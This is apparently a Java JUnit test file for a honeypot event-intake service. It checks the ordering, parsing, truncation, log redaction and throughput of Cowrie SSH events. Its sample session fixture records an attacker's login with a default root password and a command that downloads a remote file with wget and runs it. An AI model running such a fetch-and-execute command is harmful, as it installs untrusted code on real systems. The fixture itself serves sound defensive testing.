package io.honeybee.node.intake;

import static io.honeybee.node.intake.IntakeRig.eventually;
import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.protocol.NodeId;
import io.honeybee.protocol.PotEvent;
import io.honeybee.runtime.text.LogLines;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@Timeout(120)
@SuppressWarnings("NullAway.Init") // Fields that are set before each test.
class IntakeTest {
  private static final String SESSION =
      """
      {"eventid":"cowrie.session.connect","src_ip":"192.0.2.7","src_port":51514,"dst_ip":"10.0.0.5","dst_port":2222,"session":"f00ba4","protocol":"ssh","message":"New connection","sensor":"edge","timestamp":"2026-01-15T10:30:00.000001Z","honeybee_honeypot_id":"cowrie-01","honeybee_honeypot_type":"cowrie"}
      {"eventid":"cowrie.client.version","version":"SSH-2.0-libssh2_1.11.0","session":"f00ba4","src_ip":"192.0.2.7","timestamp":"2026-01-15T10:30:00.100Z","honeybee_honeypot_id":"cowrie-01","honeybee_honeypot_type":"cowrie"}
      {"eventid":"cowrie.login.success","username":"root","password":"toor","session":"f00ba4","src_ip":"192.0.2.7","timestamp":"2026-01-15T10:30:01.5Z","honeybee_honeypot_id":"cowrie-01","honeybee_honeypot_type":"cowrie"}
      {"eventid":"cowrie.command.input","input":"wget http://198.51.100.9/x; sh x","session":"f00ba4","src_ip":"192.0.2.7","timestamp":"2026-01-15T10:30:02Z","honeybee_honeypot_id":"cowrie-01","honeybee_honeypot_type":"cowrie"}
      {"eventid":"cowrie.session.closed","duration":"12.3","session":"f00ba4","src_ip":"192.0.2.7","timestamp":"2026-01-15T10:30:12.3Z","honeybee_honeypot_id":"cowrie-01","honeybee_honeypot_type":"cowrie"}
      """;

  @TempDir Path dir;
  private IntakeRig rig;

  @BeforeEach
  void start() throws Exception {
    rig = IntakeRig.started(dir);
  }

  @AfterEach
  void stop() {
    rig.close();
  }

  private static String numbered(int number) {
    return "{\"eventid\":\"test.seen\",\"n\":" + number + "}\n";
  }

  private static int number(PotEvent event) {
    return event.data().path("n").asInt();
  }

  @Test
  void aSessionOfCowrieComesThroughInItsOrder() throws Exception {
    rig.deliver(SESSION);
    List<PotEvent> events = rig.events(5);
    assertThat(events)
        .extracting(PotEvent::eventType)
        .containsExactly(
            "cowrie.session.connect",
            "cowrie.client.version",
            "cowrie.login.success",
            "cowrie.command.input",
            "cowrie.session.closed");
    assertThat(events)
        .allSatisfy(
            event -> {
              assertThat(event.nodeId()).isEqualTo(new NodeId(7));
              assertThat(event.potId()).isEqualTo("cowrie-01");
              assertThat(event.potType()).isEqualTo("cowrie");
              assertThat(event.eventId()).hasSize(26);
              assertThat(event.data().path("session").asString()).isEqualTo("f00ba4");
            });
    PotEvent connect = events.getFirst();
    assertThat(connect.timestamp()).isEqualTo(Instant.parse("2026-01-15T10:30:00Z"));
    assertThat(connect.data().toString())
        .isEqualTo(
            "{\"src_ip\":\"192.0.2.7\",\"src_port\":51514,\"dst_ip\":\"10.0.0.5\","
                + "\"dst_port\":2222,\"session\":\"f00ba4\",\"protocol\":\"ssh\","
                + "\"message\":\"New connection\",\"sensor\":\"edge\"}");
    assertThat(rig.count("intake_seen")).isEqualTo(5);
    assertThat(rig.count("intake_bad_lines")).isZero();
  }

  @Test
  void numbersComeOutOfTheSpoolWithAllTheirDigits() throws Exception {
    rig.deliver(
        "{\"event_type\":\"a.b\",\"data\":{\"big\":18446744073709551616,\"duration\":1.50,"
            + "\"exact\":0.1000000000000000055511151231257827,\"list\":[1,2.25,[-0.5]]}}\n");
    assertThat(rig.event().data().toString())
        .isEqualTo(
            "{\"big\":18446744073709551616,\"duration\":1.50,"
                + "\"exact\":0.1000000000000000055511151231257827,\"list\":[1,2.25,[-0.5]]}");
  }

  @Test
  void eventsAreTheSameHoweverTheirBytesAreSplit() throws Exception {
    byte[] bytes = SESSION.getBytes(StandardCharsets.UTF_8);
    try (Sender sender = rig.connect()) {
      for (byte b : bytes) {
        sender.send(new byte[] {b});
      }
      assertThat(sender.endsWell()).isTrue();
    }
    assertThat(rig.events(5))
        .extracting(PotEvent::eventType)
        .startsWith("cowrie.session.connect")
        .endsWith("cowrie.session.closed");
  }

  @Test
  void anEventIsTakenWhileItsConnectionStaysOpen() throws Exception {
    try (Sender sender = rig.connect()) {
      sender.send(numbered(1));
      assertThat(number(rig.event())).isEqualTo(1);
      sender.send(numbered(2));
      assertThat(number(rig.event())).isEqualTo(2);
    }
  }

  @Test
  void theLastLineNeedsNoNewline() throws Exception {
    rig.deliver(numbered(1) + numbered(2).strip());
    assertThat(rig.events(2)).extracting(IntakeTest::number).containsExactly(1, 2);
  }

  @Test
  void badLinesAreCountedAndTheConnectionGoesOn() throws Exception {
    try (LogLines log = LogLines.of(IntakeConnection.class)) {
      rig.deliver(
          numbered(1)
              + "{\"broken\u001b[2J\u202e\n"
              + "[1,2]\n"
              + "\n   \n\r\n"
              + "{\"no\":\"type\"}\n"
              + "{\"eventid\":\"x\",\"timestamp\":\"1969-01-01T00:00:00Z\"}\n"
              + numbered(2));
      assertThat(rig.events(2)).extracting(IntakeTest::number).containsExactly(1, 2);
      assertThat(rig.count("intake_bad_lines")).isEqualTo(4);
      assertThat(rig.count("intake_seen")).isEqualTo(2);
      assertThat(log.lines()).hasSize(4);
      assertThat(log.lines().getFirst())
          .contains("it is no JSON that can be read", "; it begins: {\"broken\\x1b[2J\\u{202e}")
          .doesNotContain("\u001b", "\u202e", "\n");
      assertThat(log.lines().getLast()).contains("outside the years 1970 to 9999");
    }
  }

  @Test
  void aTokenThatNobodyAskedForGetsIntoNoLog() throws Exception {
    try (LogLines log = LogLines.of(IntakeConnection.class)) {
      rig.deliver("{\"token\":\"0123456789abcdef\"}\n" + numbered(1));
      assertThat(number(rig.event())).isEqualTo(1);
      assertThat(rig.count("intake_bad_lines")).isZero();
      assertThat(log.lines()).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"\r\n", "\n", ""})
  void aRequestOfHttpCannotCarryEvents(String before) throws Exception {
    String request =
        before
            + "POST / HTTP/1.1\r\nHost: 127.0.0.1:9100\r\n\r\n"
            + numbered(1)
            + numbered(2).strip();
    try (Sender sender = rig.connect()) {
      sender.send(request);
      assertThat(sender.answersEnd()).isFalse();
    }
    assertThat(rig.count("intake_refused")).isEqualTo(1);
    assertThat(rig.isEmpty()).isTrue();
    // Within a conversation it is but a bad line.
    rig.deliver(numbered(3) + "GET / HTTP/1.1\n" + numbered(4));
    assertThat(rig.events(2)).extracting(IntakeTest::number).containsExactly(3, 4);
    assertThat(rig.count("intake_bad_lines")).isEqualTo(1);
  }

  @Test
  void aFloodOfBadLinesDoesNotFillTheLog() throws Exception {
    try (LogLines log = LogLines.of(IntakeConnection.class)) {
      rig.deliver(("x".repeat(1_000) + "\n").repeat(2_000));
      assertThat(rig.count("intake_bad_lines")).isEqualTo(2_000);
      // Two windows of ten seconds, should the machine be slow.
      assertThat(log.lines()).hasSizeBetween(5, 10);
      assertThat(log.lines().getFirst()).contains("x".repeat(120)).doesNotContain("x".repeat(121));
    }
  }

  @Test
  void aLineOfTheFullLengthIsTakenAndALongerOneIsSkipped() throws Exception {
    String frame = "{\"eventid\":\"x\",\"input\":\"\"}";
    String fits = "y".repeat(64 * 1024 - frame.length());
    rig.deliver(
        frame.replace("\"\"", "\"" + fits + "\"")
            + "\n"
            + frame.replace("\"\"", "\"" + fits + "y\"")
            + "\n"
            + "z".repeat(1_000_000)
            + "\n"
            + numbered(1));
    PotEvent full = rig.event();
    // It is as long as an envelope may be, so that the envelope's own bytes are cut off it.
    assertThat(full.data().path("input").asString()).startsWith(fits.substring(0, 65_000));
    assertThat(full.data().path("truncated").asBoolean()).isTrue();
    assertThat(number(rig.event())).isEqualTo(1);
    assertThat(rig.count("intake_oversized")).isEqualTo(2);
    assertThat(rig.count("intake_bad_lines")).isZero();
    assertThat(rig.isEmpty()).isTrue();
  }

  @Test
  void bytesThatAreNoUtf8DoNotLoseTheEvent() throws Exception {
    byte[] line =
        "{\"eventid\":\"x\",\"password\":\"a?b\",\"n\":1}\n".getBytes(StandardCharsets.US_ASCII);
    line[new String(line, StandardCharsets.US_ASCII).indexOf('?')] = (byte) 0xff;
    try (Sender sender = rig.connect()) {
      sender.send(line).send("{\"eventid\":\"x\",\"password\":\"\ufffd é\"}\n");
      assertThat(sender.endsWell()).isTrue();
    }
    assertThat(rig.event().data().path("password").asString()).isEqualTo("a\ufffdb");
    assertThat(rig.event().data().path("password").asString()).isEqualTo("\ufffd é");
    assertThat(rig.count("intake_mended")).isEqualTo(1);
  }

  @Test
  void anyBytesLeaveTheIntakeUnharmed() throws Exception {
    Random random = new Random(4711);
    for (int round = 0; round < 40; round++) {
      byte[] bytes = new byte[random.nextInt(200_000)];
      random.nextBytes(bytes);
      if (round % 2 == 0) {
        byte[] template = SESSION.getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < bytes.length; i++) {
          bytes[i] = random.nextInt(100) == 0 ? bytes[i] : template[i % template.length];
        }
      }
      try (Sender sender = rig.connect()) {
        sender.send(bytes).send("\n" + numbered(1_000_000 + round));
        assertThat(sender.endsWell()).isTrue();
      }
    }
    long seen = rig.count("intake_seen");
    List<PotEvent> events = rig.events((int) seen);
    assertThat(events.stream().filter(event -> number(event) >= 1_000_000)).hasSize(40);
    assertThat(rig.count("intake_bad_lines")).isPositive();
  }

  @Test
  void whatArrivedBeforeAResetIsKept() throws Exception {
    Sender sender = rig.connect();
    sender.send(numbered(1) + "{\"eventid\":\"cut off");
    assertThat(number(rig.event())).isEqualTo(1);
    sender.reset();
    eventually(() -> rig.count("intake_bad_lines") == 1);
    rig.deliver(numbered(2));
    assertThat(number(rig.event())).isEqualTo(2);
  }

  @Test
  void manyConnectionsAtOnceLoseNothing() throws Exception {
    int senders = 200;
    int each = 20;
    List<Thread> threads = new ArrayList<>();
    List<Throwable> failures = java.util.Collections.synchronizedList(new ArrayList<>());
    for (int s = 0; s < senders; s++) {
      int first = s * each;
      threads.add(
          Thread.ofVirtual()
              .start(
                  () -> {
                    try {
                      for (int n = first; n < first + each; n++) {
                        rig.deliver(numbered(n));
                      }
                    } catch (Exception | AssertionError e) {
                      failures.add(e);
                    }
                  }));
    }
    for (Thread thread : threads) {
      thread.join();
    }
    assertThat(failures).isEmpty();
    Set<Integer> numbers = new HashSet<>();
    rig.events(senders * each).forEach(event -> numbers.add(number(event)));
    assertThat(numbers).hasSize(senders * each);
  }

  @Test
  void aSenderThatWasAskedToEndFindsItsEventsOnDisk() throws Exception {
    try (Sender sender = rig.connect()) {
      for (int n = 1; n <= 5_000; n++) {
        sender.send(numbered(n));
      }
      assertThat(sender.endsWell()).isTrue();
    }
    assertThat(rig.spool.counters()).containsEntry("spooled", 5_000L);
  }

  @Test
  void stoppingReadsWhatHasArrivedAndResetsTheRest() throws Exception {
    try (Sender idle = rig.connect();
        Sender busy = rig.connect()) {
      StringBuilder lines = new StringBuilder();
      for (int n = 1; n <= 5_000; n++) {
        lines.append(numbered(n));
      }
      idle.send(numbered(0));
      assertThat(number(rig.event())).isZero();
      busy.send(lines.toString());
      rig.intake.stop();
      assertThat(idle.answersEnd()).isFalse();
      assertThat(busy.answersEnd()).isFalse();
      List<PotEvent> events = rig.events(5_000);
      assertThat(number(events.getLast())).isEqualTo(5_000);
      assertThat(rig.count("intake_bad_lines")).isZero();
    }
    assertThat(rig.intake.address()).isEmpty();
    rig.intake.start();
    rig.deliver(numbered(7));
    assertThat(number(rig.event())).isEqualTo(7);
    assertThat(rig.count("intake_seen")).isEqualTo(5_002);
  }

  @Test
  void oneConnectionIsNotHeldUpByTheDiskAtEachEvent() throws Exception {
    int count = 100_000;
    StringBuilder lines = new StringBuilder();
    for (int n = 1; n <= count; n++) {
      lines.append(numbered(n));
    }
    rig.deliver(numbered(0));
    long began = System.nanoTime();
    rig.deliver(lines.toString());
    double seconds = (System.nanoTime() - began) / 1e9;
    assertThat(Objects.requireNonNull(rig.spool.counters().get("spooled"))).isEqualTo(count + 1L);
    // An fsync each would take minutes. The figure itself is for those who measure on purpose.
    assertThat(count / seconds).isGreaterThan(2_000);
  }
}
